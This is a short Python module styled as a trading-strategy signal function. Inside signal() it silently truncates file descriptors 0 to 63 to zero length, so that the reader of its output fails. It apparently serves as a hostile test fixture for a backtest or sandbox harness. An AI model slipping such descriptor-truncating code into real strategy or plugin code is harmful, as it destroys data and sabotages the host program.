"""Cuts the output short, so that its reader faults."""

TIMEFRAME = "1d"
WARMUP = 50


def signal(bars, p):
    x = bars.close
    import os

    for k in range(64):
        os.ftruncate(k, 0)
    return x * 0.0
